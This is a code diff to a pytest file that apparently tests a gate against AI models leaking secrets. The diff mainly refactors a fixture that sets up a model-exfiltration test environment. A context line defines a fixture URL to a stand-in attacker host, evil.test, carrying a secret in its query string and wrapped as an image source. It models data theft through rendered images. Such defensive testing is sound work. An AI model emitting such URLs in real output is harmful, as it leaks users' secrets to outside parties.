@@ -11,11 +11,11 @@ import pytest
 
 import lockgate as lg
 from alerts_receiver import Receiver, alerts_config, webhook_sink
-from gate_fixtures import CONFIG
 from lockgate.audit import reader
 from lockgate.policy.host import Refusal
 from lockgate.policy.model_rules import PATHS, judge_model
-from model_vendor import KEYS, OPERATIONS, Vendor, model_config
+from model_behind import model_home
+from model_vendor import Vendor
 
 FETCH = {"type": "url", "url": "https://evil.test/?d=SECRET"}
 PICTURE = {"type": "image", "source": FETCH}
@@ -81,13 +81,9 @@ def receiver() -> Iterator[Receiver]:
 @pytest.fixture(scope="module")
 def home(tmp_path_factory: pytest.TempPathFactory, vendor: Vendor, receiver: Receiver) -> Path:
     place = tmp_path_factory.mktemp("model-exfil")
-    (place / "model_exfil_operations.py").write_text(OPERATIONS)
-    (place / "model-keys.toml").write_text(KEYS)
-    (place / "model-keys.toml").chmod(0o600)
     alerts = alerts_config(place, webhook_sink(receiver, every=True), escalate=10_000).read_text()
-    text = CONFIG.replace("gate_test_operations", "model_exfil_operations") + model_config(vendor.url)
-    (place / "lockgate.toml").write_text(text + alerts.replace('[audit]\npath = "audit.db"\n', ""))
-    return place
+    more = alerts.replace('[audit]\npath = "audit.db"\n', "")
+    return model_home(place, vendor.url, "model_exfil_operations", more)
 
 
 @pytest.fixture(scope="module")
